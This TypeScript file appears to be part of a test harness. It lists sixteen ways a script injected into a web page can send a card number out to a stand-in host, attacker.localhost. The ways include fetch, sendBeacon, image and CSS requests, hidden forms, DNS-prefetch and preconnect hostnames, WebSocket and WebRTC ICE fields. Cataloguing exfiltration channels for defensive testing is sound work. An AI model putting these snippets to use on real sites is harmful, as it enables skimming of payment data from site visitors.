/** A way out of a page for a script that runs in it. */
export interface Way {
  name: string
  /** Tells it from the others: the attacker's host is `<id>.attacker.localhost`. */
  id: string
  /** Body of a function of `card`, `to` (an address of the attacker's for this way), and the ports. */
  script: string
  /** In a visit of its own: nothing else can happen after it. */
  leavesPage?: true
  /** How it is known that the card arrived, where it is not in a request that the attacker's server got. */
  arrival?: 'tls' | 'name' | 'packet'
  /** A hint, which Chromium's headless shell does not follow; a Chrome with windows does. */
  hint?: true
}

export const ways: readonly Way[] = [
  { name: '`fetch`', id: 'fetch', script: "fetch(to + '?d=' + card, { mode: 'no-cors' }).catch(() => {})" },
  {
    name: '`XMLHttpRequest`',
    id: 'xhr',
    script: "const x = new XMLHttpRequest(); x.open('POST', to); x.send('d=' + card)",
  },
  { name: '`sendBeacon`', id: 'beacon', script: "navigator.sendBeacon(to, 'd=' + card)" },
  {
    name: '`fetch` with `keepalive`, after the page is left',
    id: 'keepalive',
    script:
      "addEventListener('pagehide', () => fetch(to, { method: 'POST', mode: 'no-cors', keepalive: true, body: card }).catch(() => {}))",
  },
  { name: 'image', id: 'image', script: "new Image().src = to + '?d=' + card" },
  {
    name: 'CSS `url()`',
    id: 'css',
    script: "document.body.style.backgroundImage = 'url(' + to + '?d=' + card + ')'",
  },
  {
    name: 'script element',
    id: 'script',
    script:
      "document.head.append(Object.assign(document.createElement('script'), { src: to + '?d=' + card }))",
  },
  {
    name: 'frame',
    id: 'frame',
    script:
      "document.body.append(Object.assign(document.createElement('iframe'), { src: to + '?d=' + card }))",
  },
  {
    name: 'form, posted into a hidden frame',
    id: 'form',
    script: `
      const frame = Object.assign(document.createElement('iframe'), { name: 'hidden' })
      const form = Object.assign(document.createElement('form'), { method: 'post', action: to, target: 'hidden' })
      form.append(Object.assign(document.createElement('input'), { name: 'd', value: card }))
      document.body.append(frame, form)
      form.submit()`,
  },
  {
    name: '`<link rel=prefetch>`',
    id: 'prefetch',
    script:
      "document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: to + '?d=' + card }))",
  },
  {
    name: '`<link rel=preconnect>`, the card in the name of the host',
    id: 'preconnect',
    script: `document.head.append(Object.assign(document.createElement('link'), {
      rel: 'preconnect', href: 'https://c' + card + '.preconnect.attacker.localhost:' + ports.tls }))`,
    arrival: 'tls',
    hint: true,
  },
  {
    name: '`<link rel=dns-prefetch>`, the card in the name of the host',
    id: 'dns-prefetch',
    script: `document.head.append(Object.assign(document.createElement('link'), {
      rel: 'dns-prefetch', href: 'http://c' + card + '.dns-prefetch.attacker.localhost' }))`,
    arrival: 'name',
    hint: true,
  },
  {
    name: 'WebSocket',
    id: 'websocket',
    script: "const s = new WebSocket(to.replace('http', 'ws')); s.onopen = () => s.send('d=' + card)",
  },
  { name: 'EventSource', id: 'eventsource', script: "new EventSource(to + '?d=' + card)" },
  {
    name: 'WebRTC, the card in the name under which two ends look for each other',
    id: 'webrtc',
    script: `
      const peer = new RTCPeerConnection()
      peer.createDataChannel('d')
      peer.createOffer().then(async (offer) => {
        await peer.setLocalDescription(offer)
        await peer.setRemoteDescription({ type: 'answer', sdp: [
          'v=0', 'o=- 1 1 IN IP4 127.0.0.1', 's=-', 't=0 0', 'a=group:BUNDLE 0',
          'm=application 9 UDP/DTLS/SCTP webrtc-datachannel', 'c=IN IP4 127.0.0.1', 'a=mid:0',
          'a=ice-ufrag:' + card, 'a=ice-pwd:' + 'p'.repeat(24),
          'a=fingerprint:sha-256 ' + Array(32).fill('AB').join(':'), 'a=setup:active', 'a=sctp-port:5000',
          'a=candidate:1 1 udp 2113937151 127.0.0.1 ' + ports.udp + ' typ host', ''].join('\\r\\n') })
      })`,
    arrival: 'packet',
  },
  {
    name: 'navigation',
    id: 'navigation',
    script: "setTimeout(() => { location.href = to + '?d=' + card }, 50)",
    leavesPage: true,
  },
]
